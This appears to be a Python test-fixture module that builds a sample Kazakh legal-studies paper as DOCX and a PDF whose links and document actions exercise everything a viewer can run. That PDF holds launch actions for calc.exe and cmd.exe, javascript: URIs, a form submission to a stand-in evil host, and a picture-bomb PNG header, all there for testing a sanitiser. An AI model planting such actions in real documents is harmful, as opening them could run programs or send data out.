"""Small DOCX papers for tests, built with python-docx: what a speaker's Word file looks like
(and `pdf_with_actions`, a PDF built with pypdf that carries actions a viewer would run).

`make_docx` writes a Kazakh academic paper with the parts a test asks for. python-docx has no API
for footnotes, equations or linked pictures, so those are written as WordprocessingML here, the
way Word itself stores them. The texts are module constants, so tests can look for them.
"""

import io
import struct
import zipfile
import zlib
from pathlib import Path

from docx import Document
from docx.enum.text import WD_ALIGN_PARAGRAPH
from docx.opc.constants import CONTENT_TYPE as CT
from docx.opc.constants import RELATIONSHIP_TYPE as RT
from docx.opc.packuri import PackURI
from docx.opc.part import Part
from docx.oxml import parse_xml
from docx.oxml.ns import nsdecls, qn
from docx.shared import Cm
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

KAZAKH_LETTERS = "ә ғ қ ң ө ұ ү һ і Ә Ғ Қ Ң Ө Ұ Ү Һ І"
TITLE = "Қоғамдық қауіпсіздікті қамтамасыз етудің құқықтық негіздері"
SECTION_HEADINGS = ("Кіріспе", "Зерттеу әдістері", "Қорытынды")
PARAGRAPHS = (
    "Қоғамдық қауіпсіздік — мемлекеттің негізгі міндеттерінің бірі. Әділет, ұлттық құндылықтар "
    "және өңірлік ерекшеліктер ескеріледі.",
    "Зерттеу барысында құқықтық талдау, салыстырмалы және статистикалық әдістер қолданылды. "
    f"Әріптер: {KAZAKH_LETTERS}.",
    "Общественная безопасность обеспечивается совместными усилиями государства и общества.",
)
BOLD_TEXT = "негізгі қағидаттар"
ITALIC_TEXT = "ex officio"
FOOTNOTES = (
    "Қазақстан Республикасының Конституциясы. — Астана, 1995. — 12-бап.",
    "Ахметов А.Т. Құқық қорғау органдарының қызметі. — Алматы: Ғылым, 2021. — 154 б.",
)
FOOTNOTE_SOURCE = "Құқық қорғау органдарының қызметі"  # italic in the second footnote
# Two header rows: "Өңір" spans both rows, "Тіркелген қылмыстар" spans both year columns.
TABLE_ROWS = (
    ("Өңір", "Тіркелген қылмыстар", ""),
    ("", "2023 ж.", "2024 ж."),
    ("Алматы облысы", "1 204", "1 118"),
    ("Қарағанды облысы", "987", "1 002"),
)
LIST_ITEMS = (
    "заңнаманы жетілдіру;",
    "құқық қорғау органдарының өзара іс-қимылы;",
    "азаматтардың құқықтық мәдениетін арттыру.",
)
REMOTE_IMAGE_URL = "http://images.example.com/chart.png"
IMAGE_SIZE_PX = (120, 80)
IMAGE_WIDTH = Cm(4)

# "List Number" of python-docx's default template is numbering definition 5 (decimal "1.").
LIST_NUMBER_ID = 5


def make_docx(
    path=None,
    *,
    title=TITLE,
    headings=SECTION_HEADINGS,
    paragraphs=PARAGRAPHS,
    with_table=False,
    with_footnote=False,
    with_image=False,
    pictures=(),
    with_remote_image=False,
    with_equation=False,
    with_inline_formula=False,
    with_chart=False,
    with_list=False,
):
    """A paper as DOCX bytes (also written to `path` when given).

    The title is a Heading 1 and `headings` are Heading 2, one before each paragraph in turn. The
    first paragraph has a bold and an italic run (BOLD_TEXT, ITALIC_TEXT). Options add: a table
    (TABLE_ROWS: two header rows, cells merged down and across), two footnotes (FOOTNOTES: the
    first at the end of the first paragraph, the second at the end of the last), an embedded PNG
    4 cm wide (and `pictures`, each the bytes of a picture, inserted 4 cm wide after it), a
    picture linked to REMOTE_IMAGE_URL rather than embedded, a display equation with
    a fraction and a simple inline formula (both Word's OMML), a chart (Insert ▸ Chart) and a
    numbered list (LIST_ITEMS).
    """
    document = Document()
    document.add_heading(title, level=1)
    body = [document.add_paragraph() for _ in paragraphs]
    for index, (paragraph, text) in enumerate(zip(body, paragraphs, strict=True)):
        if index < len(headings):
            paragraph.insert_paragraph_before(headings[index], style="Heading 2")
        paragraph.add_run(text)
    if body:
        body[0].add_run(" Мұнда ")
        body[0].add_run(BOLD_TEXT).bold = True
        body[0].add_run(" мен ")
        body[0].add_run(ITALIC_TEXT).italic = True
        body[0].add_run(" қарастырылады.")
    if with_footnote:
        add_footnotes(document, [body[0], body[-1]], FOOTNOTES)
    if with_list:
        add_numbered_list(document, LIST_ITEMS)
    if with_table:
        add_table(document, TABLE_ROWS)
    if with_image:
        document.add_picture(io.BytesIO(png_bytes()), width=IMAGE_WIDTH)
        document.add_paragraph(
            "1-сурет. Қылмыстар динамикасы"
        ).alignment = WD_ALIGN_PARAGRAPH.CENTER
    for picture in pictures:
        document.add_picture(io.BytesIO(picture), width=IMAGE_WIDTH)
    if with_remote_image:
        add_linked_picture(document, REMOTE_IMAGE_URL)
    if with_equation:
        add_equation(document)
    if with_inline_formula:
        add_inline_formula(document)
    if with_chart:
        add_chart(document)
    out = io.BytesIO()
    document.save(out)
    data = out.getvalue()
    if path is not None:
        Path(path).write_bytes(data)
    return data


def png_bytes(size=IMAGE_SIZE_PX, colour=(30, 90, 160)):
    """A plain PNG picture of `size` pixels."""
    out = io.BytesIO()
    Image.new("RGB", size, colour).save(out, format="PNG")
    return out.getvalue()


def png_header_bytes(width, height):
    """A PNG whose header claims `width` × `height` RGB pixels, holding one row of zeros: what a
    picture bomb looks like from outside (a few dozen bytes), with nothing to decode behind it."""

    def chunk(kind, data):
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)  # 8 bits, RGB
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(bytes(1 + 3 * width)))
        + chunk(b"IEND", b"")
    )


def emf_bytes():
    """The header of an EMF picture (Windows vector graphics, what Word makes of pasted charts
    and old equations): 100 × 50 pixels, 26.2 × 13 mm, no drawing records."""
    header = struct.pack(
        "<II4i4i4sIIIHHIIIii ii",
        *(1, 88),  # EMR_HEADER, its size
        *(0, 0, 99, 49),  # bounds, pixels
        *(0, 0, 2619, 1296),  # frame, 0.01 mm
        *(b" EMF", 0x10000, 100, 2, 1, 0),  # signature, version, bytes, records, handles
        *(0, 0, 0),  # description (none), palette entries
        *(1920, 1080),  # device size, pixels
        *(508, 286),  # device size, mm
    )
    end = struct.pack("<IIIII", 14, 20, 0, 16, 20)  # EMR_EOF
    return header + end


def add_table(document, rows):
    """A table whose first two rows are its head, merged as TABLE_ROWS describes."""
    table = document.add_table(rows=len(rows), cols=len(rows[0]))
    table.style = "Table Grid"
    for cells, values in zip(table.rows, rows, strict=True):
        for cell, value in zip(cells.cells, values, strict=True):
            cell.text = value
    cell = table.cell
    cell(0, 0).merge(cell(1, 0)).text = rows[0][0]
    cell(0, 1).merge(cell(0, 2)).text = rows[0][1]
    # Word repeats header rows on each page; converters read them as the table head.
    for row in table.rows[:2]:
        row._tr.get_or_add_trPr().append(parse_xml(f"<w:tblHeader {nsdecls('w')}/>"))
        for run in (run for cell in row.cells for run in cell.paragraphs[0].runs):
            run.bold = True
    return table


def add_numbered_list(document, items):
    """A numbered list as Word writes it: "List Number" paragraphs with their numbering."""
    for item in items:
        paragraph = document.add_paragraph(item, style="List Number")
        paragraph._p.get_or_add_pPr().append(
            parse_xml(
                f'<w:numPr {nsdecls("w")}><w:ilvl w:val="0"/>'
                f'<w:numId w:val="{LIST_NUMBER_ID}"/></w:numPr>'
            )
        )


def add_footnotes(document, paragraphs, texts):
    """Footnote i (texts[i]) referenced at the end of paragraphs[i], in a word/footnotes.xml part.

    A phrase of the source title in the text is set in italics, as a bibliography would have it.
    """
    notes = [
        '<w:footnote w:type="separator" w:id="-1"><w:p><w:r><w:separator/></w:r></w:p>'
        "</w:footnote>",
        '<w:footnote w:type="continuationSeparator" w:id="0"><w:p><w:r>'
        "<w:continuationSeparator/></w:r></w:p></w:footnote>",
    ]
    for number, (paragraph, text) in enumerate(zip(paragraphs, texts, strict=True), start=1):
        reference = parse_xml(
            f'<w:r {nsdecls("w")}><w:rPr><w:vertAlign w:val="superscript"/></w:rPr>'
            f'<w:footnoteReference w:id="{number}"/></w:r>'
        )
        paragraph._p.append(reference)
        notes.append(
            f'<w:footnote w:id="{number}"><w:p>'
            '<w:r><w:rPr><w:vertAlign w:val="superscript"/></w:rPr><w:footnoteRef/></w:r>'
            f"{footnote_runs(text)}</w:p></w:footnote>"
        )
    xml = f"<w:footnotes {nsdecls('w')}>{''.join(notes)}</w:footnotes>"
    part = Part(
        PackURI("/word/footnotes.xml"),
        CT.WML_FOOTNOTES,
        xml.encode(),
        document.part.package,
    )
    document.part.relate_to(part, RT.FOOTNOTES)


def footnote_runs(text):
    """The runs of a footnote's text, FOOTNOTE_SOURCE in italics where it occurs."""
    before, found, after = text.partition(FOOTNOTE_SOURCE)
    runs = [f'<w:r><w:t xml:space="preserve"> {escape(before)}</w:t></w:r>']
    if found:
        runs.append(f"<w:r><w:rPr><w:i/></w:rPr><w:t>{escape(found)}</w:t></w:r>")
        runs.append(f'<w:r><w:t xml:space="preserve">{escape(after)}</w:t></w:r>')
    return "".join(runs)


def escape(text):
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def add_linked_picture(document, url):
    """A picture Word shows from `url` (Insert ▸ Picture ▸ Link to file): nothing is embedded."""
    document.add_picture(io.BytesIO(png_bytes(colour=(200, 40, 40))), width=IMAGE_WIDTH)
    blip = document.paragraphs[-1]._p.xpath(".//a:blip")[0]
    embedded = blip.get(qn("r:embed"))
    del blip.attrib[qn("r:embed")]
    blip.set(qn("r:link"), document.part.relate_to(url, RT.IMAGE, is_external=True))
    document.part.drop_rel(embedded)


def replace_part(data, name, content):
    """The DOCX `data` with its part `name` (e.g. "word/media/image1.png") replaced by `content`."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w") as target:
        for item in source.infolist():
            target.writestr(item, content if item.filename == name else source.read(item))
    return out.getvalue()


def add_equation(document):
    """A display equation in Word's own math (OMML): S = (a² + b²) / 2."""
    run = "<m:r><m:t>{}</m:t></m:r>".format
    square = "<m:sSup><m:e>{}</m:e><m:sup><m:r><m:t>2</m:t></m:r></m:sup></m:sSup>".format
    numerator = square(run("a")) + run("+") + square(run("b"))
    xml = (
        f"<m:oMathPara {nsdecls('m')}><m:oMath>{run('S=')}"
        f"<m:f><m:num>{numerator}</m:num><m:den>{run('2')}</m:den></m:f>"
        "</m:oMath></m:oMathPara>"
    )
    paragraph = document.add_paragraph()
    paragraph._p.append(parse_xml(xml))
    document.add_paragraph("мұндағы S — орташа мән.")


def add_inline_formula(document):
    """A sentence with a formula in it: "Мұндағы xᵢ = y² болады." (x with subscript i)."""
    run = "<m:r><m:t>{}</m:t></m:r>".format
    paragraph = document.add_paragraph("Мұндағы ")
    paragraph._p.append(
        parse_xml(
            f"<m:oMath {nsdecls('m')}>"
            f"<m:sSub><m:e>{run('x')}</m:e><m:sub>{run('i')}</m:sub></m:sSub>{run('=')}"
            f"<m:sSup><m:e>{run('y')}</m:e><m:sup>{run('2')}</m:sup></m:sSup></m:oMath>"
        )
    )
    paragraph.add_run(" болады.")


CHART_XML = (
    '<c:chartSpace xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart">'
    '<c:chart><c:plotArea><c:layout/><c:barChart><c:barDir val="col"/>'
    '<c:grouping val="clustered"/><c:ser><c:idx val="0"/><c:order val="0"/>'
    '<c:val><c:numLit><c:ptCount val="2"/><c:pt idx="0"><c:v>1204</c:v></c:pt>'
    '<c:pt idx="1"><c:v>987</c:v></c:pt></c:numLit></c:val></c:ser>'
    '<c:axId val="1"/><c:axId val="2"/></c:barChart></c:plotArea></c:chart></c:chartSpace>'
)


def add_chart(document):
    """A bar chart as Word stores one: a chart part drawn in place, no picture of it."""
    part = Part(
        PackURI("/word/charts/chart1.xml"),
        CT.DML_CHART,
        CHART_XML.encode(),
        document.part.package,
    )
    chart_id = document.part.relate_to(part, RT.CHART)
    paragraph = document.add_paragraph()
    paragraph._p.append(
        parse_xml(
            f"<w:r {nsdecls('w', 'wp', 'a', 'r')}><w:drawing><wp:inline>"
            '<wp:extent cx="3600000" cy="2160000"/><wp:docPr id="90" name="Chart 1"/>'
            '<a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/chart">'
            '<c:chart xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart" '
            f'r:id="{chart_id}"/></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>'
        )
    )
    document.add_paragraph("2-сурет. Өңірлер бойынша қылмыстар")


SAFE_LINKS = ("https://adilet.zan.kz/kaz/docs/K950001000_", "mailto:editor@example.kz")
UNSAFE_URIS = ("javascript:app.alert('uri')", "file:///C:/Windows/System32/calc.exe")
UNSAFE_ACTIONS = (
    {"/S": "/Launch", "/F": "calc.exe"},
    {"/S": "/JavaScript", "/JS": "app.alert('link')"},
    {"/S": "/GoToR", "/F": "other.pdf", "/D": [0, "/Fit"]},
    {"/S": "/ImportData", "/F": "data.fdf"},
    {"/S": "/SubmitForm", "/F": "https://evil.example.com/collect"},
)


def pdf_with_actions():
    """A one-page PDF on US Letter whose links do everything a PDF viewer runs.

    The page has links to SAFE_LINKS (one of them followed by chained JavaScript), to
    UNSAFE_URIS, and with each of UNSAFE_ACTIONS; a file attachment; a form field with a
    keystroke script; a page-open action; and, for the document, an OpenAction, an additional
    action on closing and document-level JavaScript.
    """
    writer = PdfWriter()
    writer.add_blank_page(612, 792)
    actions = [{"/S": "/URI", "/URI": uri} for uri in SAFE_LINKS + UNSAFE_URIS]
    actions[0]["/Next"] = {"/S": "/JavaScript", "/JS": "app.alert('chained')"}
    actions += UNSAFE_ACTIONS
    for number, action in enumerate(actions):
        writer.add_annotation(0, annotation("/Link", number, {"/A": action}))
    writer.add_annotation(0, annotation("/FileAttachment", 20, {"/Contents": "payload"}))
    script = {"/K": {"/S": "/JavaScript", "/JS": "app.alert('field')"}}
    writer.add_annotation(0, annotation("/Widget", 21, {"/FT": "/Tx", "/T": "x", "/AA": script}))
    page = writer.pages[0]
    page[NameObject("/AA")] = pdf_object({"/O": {"/S": "/JavaScript", "/JS": "app.alert('page')"}})
    writer.root_object[NameObject("/OpenAction")] = pdf_object({"/S": "/Launch", "/F": "cmd.exe"})
    writer.root_object[NameObject("/AA")] = pdf_object(
        {"/WC": {"/S": "/JavaScript", "/JS": "app.alert('close')"}}
    )
    document_script = {"/S": "/JavaScript", "/JS": "app.alert('document')"}
    writer.root_object[NameObject("/Names")] = pdf_object(
        {"/JavaScript": {"/Names": ["open", document_script]}}
    )
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def annotation(subtype, number, entries):
    top = 760 - 30 * number
    return pdf_object(
        {
            "/Type": "/Annot",
            "/Subtype": subtype,
            "/Rect": [72, top - 20, 300, top],
            "/Border": [0, 0, 0],
            **entries,
        }
    )


def pdf_object(value):
    """A Python value as a pypdf object: names start with "/", lists are arrays."""
    if isinstance(value, dict):
        return DictionaryObject({NameObject(key): pdf_object(item) for key, item in value.items()})
    if isinstance(value, list):
        return ArrayObject(pdf_object(item) for item in value)
    if isinstance(value, str):
        return NameObject(value) if value.startswith("/") else TextStringObject(value)
    if isinstance(value, float):
        return FloatObject(value)
    return NumberObject(value)
